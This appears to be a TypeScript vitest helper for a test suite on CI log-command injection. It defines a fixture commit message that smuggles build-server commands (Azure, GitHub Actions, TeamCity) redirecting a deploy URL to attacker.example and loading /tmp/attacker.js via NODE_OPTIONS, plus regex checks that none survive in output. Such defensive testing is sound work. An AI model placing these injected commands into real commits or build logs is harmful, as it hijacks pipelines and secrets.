import { expect } from "vitest";

/** A commit message carrying a command for each build server, at line starts and mid-line. */
export const hostileComment = [
  "Fix checkout ##vso[task.setvariable variable=OCTOPUS_URL]http://attacker.example/x",
  "::set-env name=NODE_OPTIONS::--require /tmp/attacker.js",
  "  ::add-mask::everything",
  "##teamcity[setParameter name='env.OCTOPUS_URL' value='http://attacker.example']",
  "##[set-env name=X;]y",
].join("\n");

const lineBreak = /\r\n|[\r\n\u0085\u2028\u2029]/;

/**
 * No line of `output` is one of the commands an attacker would write (the tool's own commands —
 * `##vso[task.logissue`, `##teamcity[message`, `::error` — may appear).
 */
export function expectNoInjectedCommand(output: string): void {
  for (const line of output.split(lineBreak)) {
    expect(line, line).not.toMatch(/##vso\[task\.setvariable/i);
    expect(line, line).not.toMatch(/##teamcity\[setParameter/i);
    expect(line, line).not.toMatch(/##\[set-env/i);
    expect(line, line).not.toMatch(/^\s*::(set-env|add-mask|set-output)/);
  }
}
